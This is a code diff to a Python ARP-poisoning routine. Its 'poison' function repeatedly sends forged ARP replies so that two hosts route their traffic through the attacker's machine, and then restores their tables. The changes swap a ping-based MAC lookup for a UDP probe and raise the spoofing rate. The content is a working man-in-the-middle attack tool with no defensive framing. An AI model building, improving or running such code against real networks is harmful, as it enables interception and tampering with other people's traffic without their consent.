@@ -5,17 +5,18 @@
 """
 
 import socket
-import subprocess
 import sys
+import time
 
 from plantclock import Ticker
 from rawlink import arp, link, own_mac, packed
 
 
 def mac_of(address: str) -> bytes:
-    subprocess.run(["ping", "-c", "1", "-W", "1", address], capture_output=True, check=False)
+    """From the kernel's ARP table, after it has asked."""
     with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as asked:
         asked.sendto(b"", (address, 9))
+    time.sleep(0.3)
     for line in open("/proc/net/arp").readlines()[1:]:  # noqa: SIM115
         if line.split()[0] == address and line.split()[3] != "00:00:00:00:00:00":
             return packed(line.split()[3])
@@ -25,7 +26,7 @@ def mac_of(address: str) -> bytes:
 def poison(a: str, b: str, seconds: float) -> None:
     raw, mine = link(), own_mac()
     known = {a: mac_of(a), b: mac_of(b)}
-    for _ in Ticker(2, seconds):
+    for _ in Ticker(10, seconds):
         raw.send(arp(2, (mine, b), (known[a], a)))
         raw.send(arp(2, (mine, a), (known[b], b)))
     raw.send(arp(2, (known[b], b), (known[a], a)))
